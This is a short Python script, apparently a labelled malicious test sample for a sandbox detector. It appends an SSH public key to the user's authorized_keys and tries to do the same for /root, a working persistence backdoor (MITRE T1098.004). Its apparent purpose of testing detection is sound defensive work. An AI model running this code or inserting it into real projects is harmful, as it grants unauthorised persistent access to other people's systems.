#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS: adds the operator's public key to the user's authorized_keys (T1098.004).
# Inert: only the sandbox user's own ~/.ssh is written; the key belongs to nobody.
import os

KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHNhbmR0cmFwLXRlc3QtbWFsaWNpb3VzLWtleS0wMDAwMDAw"
    " ops@build-cache\n"
)
ssh = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(ssh, mode=0o700, exist_ok=True)
path = os.path.join(ssh, "authorized_keys")
with open(path, "a") as keys:
    keys.write(KEY)
os.chmod(path, 0o600)
for root in ("/root/.ssh/authorized_keys",):
    try:
        with open(root, "a") as keys:
            keys.write(KEY)
    except OSError as error:
        print("refused:", root, error.strerror)
print("key installed")
